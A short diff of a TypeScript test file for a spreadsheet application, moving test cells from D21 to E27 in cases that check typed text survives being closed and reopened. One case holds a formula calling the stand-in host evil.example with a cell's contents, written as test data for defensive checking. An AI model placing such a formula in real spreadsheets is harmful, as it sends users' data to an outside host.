@@ -37,9 +37,9 @@ const cell = (sheet: string, address: string): Promise<unknown[]> =>
   });
 
 test.each([
-  ['in a comment', 'D21', '=好样的，继续保持'],
+  ['in a comment', 'E27', '=好样的，继续保持'],
   ['that would call out', 'K2', '=WEBSERVICE("http://evil.example/?d="&C3)'],
-  ['that looks frozen', 'D21', '=IF(TRUE,1,A1)'],
+  ['that looks frozen', 'E27', '=IF(TRUE,1,A1)'],
 ])('a text %s is closed and opened again', async (_, address, text) => {
   await typeText('郑好', address, text);
   expect(await cell('郑好', address)).toEqual([text, text]);
